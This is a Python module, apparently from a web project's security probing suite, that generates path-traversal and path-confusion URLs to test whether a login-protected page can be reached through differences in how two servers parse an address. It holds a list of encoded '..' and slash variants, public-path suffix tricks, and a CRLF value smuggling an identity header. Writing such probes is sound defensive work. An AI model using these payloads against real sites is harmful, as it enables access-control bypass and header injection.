"""One address that two servers read in two ways (SCO-11): from a public path, or none, to the page that needs a login."""

from __future__ import annotations

from collections.abc import Iterator

from vodka.handoff.probing.attack import Attack, Group
from vodka.handoff.probing.ground import Ground

# How one segment up may be written, and the slash beside it.
_CLIMBS = {
    "dots": ("..", "/"),
    "dots-escaped": ("%2e%2e", "/"),
    "dot-escaped": (".%2e", "/"),
    "slash-escaped": ("..", "%2f"),
    "all-escaped": ("%2e%2e", "%2F"),
    "parameter": ("..;", "/"),
    "parameter-named": ("..;x=", "/"),
    "backslash": ("..", "\\"),
    "backslash-escaped": ("..", "%5c"),
    "two-slashes": ("..", "//"),
    "escaped-twice": ("%252e%252e", "/"),
    "slash-escaped-twice": ("..", "%252f"),
    "overlong-dots": ("%c0%ae%c0%ae", "/"),
    "overlong-slash": ("..", "%c0%af"),
    "nul": ("..%00", "/"),
    "tab": (".%09.", "/"),
    "wide-dots": ("%ef%bc%8e%ef%bc%8e", "/"),
}
# What is put behind the name of a public path: to vodka no longer public, to a careless prefix or pattern it may be.
_BEHIND_PUBLIC = {
    "suffix": ".json",
    "letter": "x",
    "tilde": "~",
    "dot": ".",
    "space": "%20",
    "nul": "%00",
    "line-break": "%0d%0aX-Vodka-Identity:%20x",
    "slash-escaped": "%2f",
    "backslash": "\\",
    "backslash-escaped": "%5c",
    "parameter": ";x=",
    "query-escaped": "%3f",
    "fragment-escaped": "%23",
}


def attacks(ground: Ground) -> Iterator[Attack]:
    """Those that vodka's own reading of the address leaves closed."""
    found = [*_around(ground)]
    for number, public in enumerate(ground.public, start=1):
        found += _from_public(ground, public, number)
    for word, path in found:
        if ground.is_closed(path):
            yield Attack(Group.PATH, f"path-{word}", f"asks for {path}", ground.ask(path), path=path)


def _around(ground: Ground) -> Iterator[tuple[str, str]]:
    """Without a public path."""
    home, tail, page = ground.home, ground.tail, ground.page
    yield "dot", f"{home}./{tail}"
    yield "dot-escaped", f"{home}%2e/{tail}"
    yield "two-slashes", f"{home}/{tail}"
    yield "three-slashes", f"{home}//{tail}"
    yield "backslash", f"{home}\\{tail}"
    yield "slash-escaped", f"{home}%2f{tail}"
    yield "back-again", f"{home}x/../{tail}"
    yield "back-again-escaped", f"{home}x/%2e%2e/{tail}"
    yield "parameter", f"{home};x=/{tail}"
    yield "letter-escaped", home + (f"%{ord(tail[0]):02x}{tail[1:]}" if tail else "%69ndex.html")
    for word, behind in (
        ("nul", "%00"),
        ("space", "%20"),
        ("line-break", "%0d%0a%0d%0a"),
        ("query-escaped", "%3f"),
        ("fragment-escaped", "%23"),
        ("overlong", "%c0%af"),
        ("broken-escape", "%"),
        ("parameter-behind", ";x=y"),
    ):
        yield word, page + behind
    # Rules that look for a public path anywhere in what was asked for.
    sounds_open = ground.open_address.removeprefix(ground.origin)
    yield "in-query", f"{page}?{sounds_open}"
    yield "in-fragment", f"{page}#{sounds_open}"
    yield "in-parameter", f"{page};{sounds_open}"


def _from_public(ground: Ground, public: str, number: int) -> Iterator[tuple[str, str]]:
    """Up again out of a public path, and names that only look like it."""
    depth = len([part for part in public.removeprefix(ground.home).split("/") if part])
    for word, (up, slash) in _CLIMBS.items():
        yield f"climb-{word}-{number}", public + "/" + (up + slash) * depth + ground.tail
    # A folder that was mapped without its slash (nginx's alias).
    yield f"climb-no-slash-{number}", f"{public}{'../' * depth}{ground.tail}"
    for word, behind in _BEHIND_PUBLIC.items():
        yield f"public-{word}-{number}", public + behind
    yield f"public-upper-case-{number}", ground.home + public.removeprefix(ground.home).upper() + "/"
